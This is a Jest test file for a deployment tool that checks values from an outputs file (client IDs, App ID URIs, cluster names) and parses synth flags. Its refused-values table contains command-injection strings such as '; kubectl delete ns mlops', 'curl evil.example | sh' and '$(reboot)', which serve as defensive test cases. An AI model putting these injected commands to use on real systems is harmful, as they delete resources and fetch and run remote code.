import { mkdtempSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { DeployOutputs } from '../../lib/core/deploy-outputs';
import { formatIssue, PlatformValidationError } from '../../lib/core/validation';
import { parseSynthArgs } from '../../stacks/synth-args';

// Class 5 of issue 18, the outputs file: each value checked against its output's kind before it is pasted into
// manifests, a file that is not an outputs file refused, and the synth flags parsed strictly. (Strict mode failing
// before anything is written: test/platform/outputs-handoff.test.ts.)

const GUID = '0c0c0c0c-1111-2222-3333-444444444444';
const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

const REFUSED: Array<[string, string, string]> = [
  ['prod_azure_client_id', 'not-a-guid', 'must be a client ID (a GUID)'],
  ['prod_azure_client_id', `${GUID}\n`, 'must be a client ID (a GUID)'],
  ['prod_azure_client_id', ` ${GUID}`, 'must be a client ID (a GUID)'],
  ['prod_azure_client_id', `{${GUID}}`, 'must be a client ID (a GUID)'],
  ['prod_azure_client_id', `${GUID}; kubectl delete ns mlops`, 'must be a client ID (a GUID)'],
  ['feature_secrets_project_number', 'mlmesh-prod', 'must be a Google project number (digits)'],
  ['feature_secrets_project_number', '0123456789', 'must be a Google project number (digits)'],
  ['feature_secrets_project_number', '12345', 'must be a Google project number (digits)'],
  ['azureml_app_id_uri', 'https://login.example.com', 'must be an App ID URI, api://<client id>'],
  ['azureml_app_id_uri', 'api://not-a-guid', 'must be an App ID URI, api://<client id>'],
  ['azureml_app_id_uri', `api://${GUID}"; curl evil.example | sh; echo "`, 'must be an App ID URI, api://<client id>'],
  ['azureml_app_id_uri', `api://${GUID}/.default`, 'must be an App ID URI, api://<client id>'],
  ['aks_cluster_name', 'aks prod', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks-prod\nkind: Secret', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks-$(reboot)', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks-`id`', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks;rm', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks|sh', 'must be one line of plain text'],
  ['aks_cluster_name', 'aks&', 'must be one line of plain text'],
  ['aks_cluster_name', "aks'prod", 'must be one line of plain text'],
  ['aks_cluster_name', 'aks\tprod', 'must be one line of plain text'],
];

const ACCEPTED: Array<[string, string]> = [
  ['prod_azure_client_id', GUID.toUpperCase()],
  ['feature_secrets_project_number', '987654321098'],
  ['azureml_app_id_uri', `api://${GUID}`],
  ['aks_cluster_name', 'aks-mlmesh-prod'],
  ['oidc_issuer_url', `https://westeurope.oic.prod-aks.azure.com/${GUID}/${GUID}/`],
];

describe('values in the outputs file', () => {
  test('the class has at least 20 refused values', () => expect(REFUSED.length).toBeGreaterThanOrEqual(20));

  test.each(REFUSED)('%s = %j is refused, naming file, stack.output, value and rule', (output, value, rule) => {
    const outputs = DeployOutputs.fromObject({ 'prod-azure': { nested: { [output]: value } } });
    let error: unknown;
    try {
      outputs.get('prod-azure', output, 'client ID of the test identity');
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(PlatformValidationError);
    const refusal = error as PlatformValidationError;
    expect(refusal.where).toBe('outputs file (object)');
    expect(refusal.issues).toEqual([{ field: `prod-azure.${output}`, value, rule: expect.stringMatching(new RegExp(`^${escape(rule)}.*; this output is the client ID of the test identity$`)) }]);
    expect(refusal.message).toContain(formatIssue(refusal.where, refusal.issues[0]));
  });

  test.each(ACCEPTED)('%s = %j is accepted as written', (output, value) => {
    expect(DeployOutputs.fromObject({ 'prod-azure': { [output]: value } }, true).get('prod-azure', output, 'x')).toBe(value);
  });

  test('a file that is not JSON, or not an object of stacks, is refused by path', () => {
    const dir = mkdtempSync(join(tmpdir(), 'outputs-'));
    writeFileSync(join(dir, 'broken.json'), '{ "prod-azure": ');
    writeFileSync(join(dir, 'list.json'), '["prod-azure"]');
    expect(() => DeployOutputs.fromFile(join(dir, 'broken.json'))).toThrow(`outputs file ${join(dir, 'broken.json')}: cannot read it as JSON`);
    expect(() => DeployOutputs.fromFile(join(dir, 'list.json'))).toThrow(`outputs file ${join(dir, 'list.json')}: expected an object keyed by stack name`);
  });
});

describe('the synth flags', () => {
  test.each([
    [['--outputs'], "Option '--outputs <value>' argument missing"],
    [['--outputs', '--strict'], "Option '--outputs' argument is ambiguous"],
    [['--outdir'], "Option '--outdir <value>' argument missing"],
    [['--outdir', '--outputs', 'o.json'], "Option '--outdir' argument is ambiguous"],
    [['--output', 'o.json'], "Unknown option '--output'"],
    [['--strict=yes'], "Option '--strict' does not take an argument"],
  ])('%j is refused with a message saying why', (args, message) => {
    expect(() => parseSynthArgs(args)).toThrow(message);
  });

  test.each([
    [[], { outputs: undefined, strict: false, outdir: '.' }],
    [['--outputs', 'o.json', '--strict'], { outputs: 'o.json', strict: true, outdir: '.' }],
    [['--strict', '--outdir', 'out', '--outputs=o.json'], { outputs: 'o.json', strict: true, outdir: 'out' }],
  ])('%j is read as written', (args, parsed) => {
    expect(parseSynthArgs(args)).toEqual(parsed);
  });
});
